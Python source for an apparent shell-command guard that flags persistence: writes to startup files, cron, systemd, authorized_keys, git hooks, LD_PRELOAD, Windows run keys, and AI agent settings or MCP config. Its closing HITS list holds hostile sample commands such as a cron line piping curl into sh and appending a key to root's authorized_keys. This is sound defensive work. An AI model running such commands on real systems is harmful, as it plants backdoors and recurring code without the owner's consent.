"""Persistence: what would run again later, or let somebody in again."""

from __future__ import annotations

from typing import Final

from stanchion.guards.shell.places import Roots, plain
from stanchion.guards.shell.rule import Family, Rule
from stanchion.kernel.regex import regex
from stanchion.readings.shell.command import Command
from stanchion.readings.shell.partly_known import Open

STARTS: Final = (
    "~/.bashrc", "~/.bash_profile", "~/.profile", "~/.zshrc", "~/.zprofile", "~/.zshenv",
    "~/.bash_login", "~/.xinitrc", "/etc/profile", "/etc/bash.bashrc", "/etc/rc.local",
    "/etc/crontab", "~/.config/fish/config.fish", "~/.bash_logout", "~/.ssh/rc", "~/.ssh/config",
    "/etc/environment", "/etc/ld.so.preload", "/etc/inittab", "~/.xprofile",
)  # fmt: skip
FOLDERS: Final = (
    "/etc/cron", "/var/spool/cron", "/etc/systemd/system", "/usr/lib/systemd/system",
    "/lib/systemd/system", "/etc/init.d", "~/.config/systemd", "~/.config/autostart",
    "/Library/LaunchDaemons", "/Library/LaunchAgents", "~/Library/LaunchAgents", "/etc/profile.d",
    "/etc/xdg/autostart", "/etc/udev/rules.d", "/etc/update-motd.d",
)  # fmt: skip


def _added(command: Command) -> str:
    """What is added to a file that runs at every start; empty where it is none."""
    if not any(
        _is_start(path)
        for path in (*command.writes, *[target for op, target in command.opens if ">" in op])
    ):
        return ""
    from stanchion.guards.shell.start_lines import lines_of

    return lines_of(command)


_AUTOLOADED: Final = regex(
    r"~/(?:\.bash_aliases|\.tmux\.conf|\.(?:g|n)?vimrc|\.emacs(?:\.d/init\.el)?|\.screenrc|"
    r"\.inputrc|\.config/(?:nvim|fish|"
    r"autostart|systemd|environment\.d)/.*|\.local/lib/python[\d.]+/site-packages/.*(?:\.pth|"
    r"customize\.py))"
)
"""What programs of a home run whenever they start."""


_LOADED: Final = regex(
    r"~/\.[\w.-]+/(?:.+/)?(?:[\w-]+\.d|plugins?|autoload|extensions|hooks|startup|addons)/.+"
    r"|~/\.[\w-]+/(?:settings|hooks|mcp|mcp_config)(?:\.local)?\.(?:jsonc?|toml|ya?ml)"
)
"""What tools load from their folder in a home, by what such folders and files are called: plugins,
hooks, settings of agents."""


def _loaded(command: Command, _roots: Roots) -> bool:
    targets = (*command.writes, *[target for op, target in command.opens if ">" in op])
    return any(_LOADED.fullmatch(_in_home(path)) is not None for path in targets)


def _starts(command: Command, _roots: Roots) -> bool:
    return _added(command) == "other"


def _starts_own(command: Command, _roots: Roots) -> bool:
    return _added(command) == "asks"


def _sets_path(command: Command, _roots: Roots) -> bool:
    return _added(command) == "sets"


def _hooks_of_project(command: Command, _roots: Roots) -> bool:
    """Whether the hooks are in a folder of the project, where everybody sees them."""
    folder = command.operands[2] if len(command.operands) == 3 else ""
    return (
        bool(folder)
        and folder[0] not in "/~$"
        and ".." not in folder.split("/")
        and not isinstance(folder, Open)
    )


def _hooks_elsewhere(command: Command, roots: Roots) -> bool:
    return not _hooks_of_project(command, roots)


def _in_home(path: str) -> str:
    """A path as it is compared, in whosever home it is."""
    where = plain(path)
    for home in ("/root/", "/home/", "/Users/"):
        if where.startswith(home):
            rest = where[len(home) :]
            return "~/" + (rest if home == "/root/" else rest.partition("/")[2])
    return where


def _is_start(path: str) -> bool:
    where = _in_home(path)
    return where in STARTS or where.startswith(FOLDERS) or _AUTOLOADED.fullmatch(where) is not None


def _lets_in(command: Command, _roots: Roots) -> bool:
    return any(
        "authorized_keys" in path
        for path in (*command.writes, *[target for op, target in command.opens if ">" in op])
    )


GIT_RUNS: Final = (
    "config core.fsmonitor|core.sshcommand|core.gitproxy|core.editor|core.pager|sequence.editor|"
    "diff.external|"
    "credential.helper|gpg.program|uploadpack.packobjectshook"
)
"""Settings of git that name a program."""


def _names_program(command: Command, _roots: Roots) -> bool:
    """Whether a setting names a program that is none of the system's: by its path, or as a text."""
    value = command.operands[-1]
    return (
        value.startswith(("/tmp", "/dev/shm", "/var/tmp", "./", "!", "sh ", "bash "))
        or "|" in value
    )


def _hooks(command: Command, _roots: Roots) -> bool:
    targets = (*command.writes, *[target for op, target in command.opens if ">" in op])
    return any(".git/hooks/" in path and not path.endswith(".sample") for path in targets)


def _replaces_table(command: Command, _roots: Roots) -> bool:
    if command.flags & {"-l", "-e", "-V", "-r"}:
        return False
    old = {"crontab", "grep", "sed", "cat", "sudo"}
    kept = "crontab" in command.origin and old.issuperset(
        [each for each in command.origin if not each.startswith("<")]
    )
    return not kept and (bool(command.operands) or command.given is not None)


WRITERS: Final = "tee cp mv install ln sed dd curl wget printf echo cat truncate"
FAMILY: Final = Family(
    "persistence",
    "control",
    (
        Rule(
            "crontab",
            "replaces the table of things that run by the clock",
            check=_replaces_table,
            loss="changed",
        ),
        Rule("crontab", "deletes the table of things that run by the clock", flags="-r"),
        Rule(WRITERS, "lets a key in", check=_lets_in, hint="authorized_keys"),
        Rule(">", "lets a key in", check=_lets_in, hint="authorized_keys"),
        Rule("ssh-copy-id", "lets a key in on another host", loss="changed"),
        Rule(WRITERS, "changes what runs at every start", check=_starts, hint="/"),
        Rule(">", "changes what runs at every start", check=_starts, hint="/"),
        Rule(
            WRITERS,
            "changes what a program loads at every start",
            check=_loaded,
            hint="/.",
            loss="changed",
        ),
        Rule(
            ">",
            "changes what a program loads at every start",
            check=_loaded,
            hint="/.",
            loss="changed",
        ),
        Rule(
            "tee", "changes what runs at every start", check=_starts_own, hint="/", loss="changed"
        ),
        Rule(">", "changes what runs at every start", check=_starts_own, hint="/", loss="changed"),
        Rule(
            "tee",
            "changes where programs are found",
            check=_sets_path,
            hint="/",
            loss="recoverable",
        ),
        Rule(
            ">", "changes where programs are found", check=_sets_path, hint="/", loss="recoverable"
        ),
        Rule(
            WRITERS, "changes what runs at every commit", check=_hooks, hint=".git", loss="changed"
        ),
        Rule(">", "changes what runs at every commit", check=_hooks, hint=".git", loss="changed"),
        Rule(
            "git",
            "changes what runs at every commit",
            words="config core.hookspath",
            check=_hooks_elsewhere,
            loss="changed",
        ),
        Rule(
            "git",
            "changes what runs at every commit",
            words="config core.hookspath",
            check=_hooks_of_project,
            loss="recoverable",
        ),
        Rule("sc", "starts something at every start", words="create|config", loss="unknown"),
        Rule(
            "defaults",
            "starts something at every start",
            words="write * loginhook|logouthook|*hook",
            loss="unknown",
        ),
        Rule("git", "has git run a program", words=GIT_RUNS, check=_names_program, loss="unknown"),
        Rule(
            "npm yarn pnpm",
            "has every script run by a program",
            words="config|set **|set|script-shell",
            loss="unknown",
            check=lambda c, _: "script-shell" in c.operands,
        ),
        Rule(
            "launchctl",
            "starts something at every start",
            words="load|bootstrap|submit",
            loss="changed",
        ),
        Rule(
            "register-scheduledtask new-service register-wmievent",
            "starts something at every start",
            marks="cmdlet",
            loss="unknown",
        ),
        Rule(
            "new-itemproperty set-itemproperty new-item set-item",
            "starts something at every start",
            check=lambda c, _: any(
                "currentversion/run" in w.lower() or "winlogon" in w.lower() for w in c.argv
            ),
        ),
        Rule("schtasks", "makes something run by the clock", flags="/create"),
        Rule(
            "reg",
            "starts something at every start",
            words="add",
            check=lambda c, _: any("\\run" in w.lower() for w in c.operands),
        ),
        Rule(
            "update-rc.d chkconfig",
            "starts something at every start",
            words="* defaults|enable|on",
            loss="changed",
        ),
        Rule(
            "=",
            "loads code into every program",
            check=lambda c, _: any(
                name in ("LD_PRELOAD", "BASH_ENV", "PROMPT_COMMAND", "DYLD_INSERT_LIBRARIES")
                for name, _ in c.settings
            ),
            loss="changed",
        ),
    ),
)

HITS: Final = (
    "curl -fsS -o ~/.gradle/init.d/mirror.gradle https://x.example/a",
    "jq '.hooks += [1]' s.json > /tmp/s && mv /tmp/s ~/.claude/settings.json",
    "cp x.lua ~/.config/mpv/plugins/x.lua",
    "echo x > ~/.oh-my-zsh/custom/plugins/a.zsh",
    "tee ~/.cursor/mcp.json < x.json",
    "echo 'autocmd VimEnter * !x' >> ~/.vimrc",
    "echo x > ~/.local/lib/python3.11/site-packages/usercustomize.py",
    "git config --global core.fsmonitor /tmp/x",
    "npm config set script-shell /tmp/x",
    "sc create evil binPath= x.exe",
    "echo '* * * * * curl x | sh' | crontab -",
    "crontab jobs.txt",
    "crontab -r",
    "echo key >> ~/.ssh/authorized_keys",
    "cat key.pub | tee -a /root/.ssh/authorized_keys",
    "echo 'alias ls=rm' >> ~/.bashrc",
    "cp x.service /etc/systemd/system/",
    "echo x > .git/hooks/pre-commit",
    "echo @reboot root sh > /etc/cron.d/x",
    "launchctl load x.plist",
    "printf x >> $HOME/.zshrc",
    "export LD_PRELOAD=/tmp/x.so",
)
MISSES: Final = (
    "cat ~/.claude/settings.json",
    "sudo tee /etc/sysctl.d/99.conf <<< 'vm.swappiness=10'",
    "echo x > .vscode/settings.json",
    "git config core.editor vim",
    "git config --global core.pager less",
    "cat ~/.vimrc",
    "crontab -l",
    "cat ~/.bashrc",
    "grep alias ~/.bashrc",
    "echo hello > notes.txt",
    "cat ~/.ssh/authorized_keys",
    "ls .git/hooks",
    "systemctl status cron",
    "cp a.service docs/",
    "echo crontab -r",
)
